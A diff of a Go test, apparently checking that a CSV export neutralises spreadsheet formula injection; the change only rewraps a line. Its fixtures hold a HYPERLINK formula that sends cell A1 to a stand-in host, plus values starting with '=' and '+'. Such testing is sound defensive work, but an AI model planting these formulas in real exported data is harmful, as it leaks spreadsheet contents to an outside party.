@@ -29,7 +29,8 @@ func TestNoListAsCSVHoldsAFormula(t *testing.T) {
 	t.Parallel()
 	const formula = `=HYPERLINK("http://x.example/?"&A1)`
 	h := newHarness(t)
-	h.write(t, "hours.json", strings.ReplaceAll(hours, `"description":"Tokens"`, `"description":"=HYPERLINK(\"http://x.example/?\"&A1)","user":"@ana"`))
+	h.write(t, "hours.json", strings.ReplaceAll(hours, `"description":"Tokens"`,
+		`"description":"=HYPERLINK(\"http://x.example/?\"&A1)","user":"@ana"`))
 	h.write(t, "clients.json", strings.NewReplacer("Brutăria Morii SRL", "+Morii SRL", `"contact":""`, `"contact":"=1+1"`).Replace(book))
 	h.succeed(t, "clients", "import", h.path("clients.json"))
 	h.issued(t)
